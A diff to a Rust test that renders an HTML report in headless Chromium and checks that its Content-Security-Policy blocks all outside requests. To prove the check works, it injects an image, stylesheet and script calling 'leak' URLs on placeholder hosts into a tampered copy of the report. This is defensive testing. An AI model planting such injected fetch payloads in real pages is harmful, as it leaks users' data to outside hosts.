@@ -37,11 +37,10 @@ fn chromium() -> PathBuf {
     path
 }
 
-/// Runs headless chromium on a file with `extra` arguments, with every
-/// network request sent to a closed port and logged.
-fn browse(page: &Path, work: &Path, extra: &[&str]) -> (String, String, String) {
+/// Runs headless chromium on a file with `extra` arguments; every network
+/// request goes to a closed port. Returns stdout and stderr.
+fn browse(page: &Path, work: &Path, extra: &[&str]) -> (String, String) {
     let profile = tempfile::tempdir_in(work).unwrap();
-    let netlog = work.join(format!("net-{}.json", extra.len()));
     let out = Command::new(chromium())
         .args([
             "--headless",
@@ -58,17 +57,46 @@ fn browse(page: &Path, work: &Path, extra: &[&str]) -> (String, String, String) 
             "--v=0",
         ])
         .arg(format!("--user-data-dir={}", profile.path().display()))
-        .arg(format!("--log-net-log={}", netlog.display()))
         .args(extra)
         .arg(format!("file://{}", page.display()))
         .output()
         .unwrap();
-    let netlog = std::fs::read_to_string(&netlog).unwrap_or_default();
     (
         String::from_utf8_lossy(&out.stdout).into_owned(),
         String::from_utf8_lossy(&out.stderr).into_owned(),
-        netlog,
     )
+}
+
+/// The value of a `data-*` attribute the page's scripts stamped in the DOM.
+fn stamp<'a>(dom: &'a str, name: &str) -> Option<&'a str> {
+    let needle = format!("{name}=\"");
+    let at = dom.find(&needle)? + needle.len();
+    dom[at..].split('"').next()
+}
+
+/// What the page itself did, as the browser saw it: requests it made that
+/// went through (resource timing), requests the browser refused under the
+/// page's Content-Security-Policy, and the page's console messages. The
+/// browser's own background traffic (update checks and the like) is not
+/// the page's and shows in none of these.
+struct PageActivity {
+    resources: Option<String>,
+    csp_violations: usize,
+    console: Vec<String>,
+}
+
+fn page_activity(dom: &str, stderr: &str) -> PageActivity {
+    PageActivity {
+        resources: stamp(dom, "data-resources").map(str::to_owned),
+        csp_violations: stamp(dom, "data-csp-violations")
+            .map(|n| n.parse().unwrap())
+            .unwrap_or(0),
+        console: stderr
+            .lines()
+            .filter(|l| l.contains(":CONSOLE"))
+            .map(str::to_owned)
+            .collect(),
+    }
 }
 
 /// Pixels of exactly this colour in a PNG.
@@ -173,31 +201,77 @@ fn the_report_renders_in_a_headless_browser() {
     }
     assert!(html.contains("signature valid; the chains extend it consistently"));
 
+    // Nothing to fetch, by construction: the page carries a policy that
+    // forbids every outside source, and its inline code is pinned by hash.
+    let csp = lifeledger::report::content_security_policy();
+    assert!(csp.starts_with("default-src 'none';"), "{csp}");
+    assert!(
+        html.contains(&format!(
+            "<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">",
+            lifeledger::report::esc(&csp)
+        )),
+        "the page carries no Content-Security-Policy"
+    );
+
     // Rendered by a browser: the script ran (it stamps the number of
-    // finding rows), without a console message; no request left the page.
-    let (dom, stderr, netlog) = browse(&page, &work, &["--dump-dom"]);
+    // finding rows), without a console message; the page made no request
+    // and the browser refused none.
+    let (dom, stderr) = browse(&page, &work, &["--dump-dom"]);
     let findings = html.matches("<tr class=\"finding\">").count();
     assert!(findings > 0);
-    assert!(
-        dom.contains(&format!("data-ready=\"{}\"", 2 * findings)),
+    assert_eq!(
+        stamp(&dom, "data-ready"),
+        Some(format!("{}", 2 * findings).as_str()),
         "the page's script did not run: {}",
         &dom[..dom.len().min(400)]
     );
-    let console: Vec<&str> = stderr.lines().filter(|l| l.contains(":CONSOLE")).collect();
-    assert!(console.is_empty(), "console messages: {console:?}");
-    let fetched: Vec<&str> = netlog
-        .split("\"url\":\"")
-        .skip(1)
-        .filter_map(|s| s.split('"').next())
-        .filter(|u| !u.contains(".google.com/") && !u.starts_with("https://www.google.com"))
-        .collect();
-    assert!(fetched.is_empty(), "the page fetched {fetched:?}");
+    let seen = page_activity(&dom, &stderr);
+    assert!(
+        seen.console.is_empty(),
+        "console messages: {:?}",
+        seen.console
+    );
+    assert_eq!(
+        seen.resources.as_deref(),
+        Some("0"),
+        "the page fetched something"
+    );
+    assert_eq!(seen.csp_violations, 0, "the page tried to fetch something");
+
+    // The same checks do see a page that tries: a copy of the report with
+    // an image, a style sheet and a script injected from elsewhere is
+    // refused each time, and says so.
+    let tampered = work.join("tampered.html");
+    std::fs::write(
+        &tampered,
+        html.replacen(
+            "<main>",
+            "<main><img src=\"http://127.0.0.1:9/leak.png\"><link rel=\"stylesheet\" href=\"https://example.invalid/x.css\"><script>fetch('https://example.invalid/leak')</script>",
+            1,
+        ),
+    )
+    .unwrap();
+    let (dom, stderr) = browse(&tampered, &work, &["--dump-dom"]);
+    let seen = page_activity(&dom, &stderr);
+    assert!(
+        seen.csp_violations >= 3,
+        "refused requests not seen: {} violations, console {:?}",
+        seen.csp_violations,
+        seen.console
+    );
+    assert!(
+        seen.console
+            .iter()
+            .any(|l| l.contains("Content Security Policy")),
+        "no console message for the refused requests: {:?}",
+        seen.console
+    );
 
     // The charts are drawn: a screenshot holds bars in the rule B colour
     // (deadlines ahead) and the on-time colour (deletions), far more
     // pixels of each than their 12x12 legend squares.
     let shot = work.join("report.png");
-    let (_, stderr, _) = browse(
+    let (_, stderr) = browse(
         &page,
         &work,
         &[
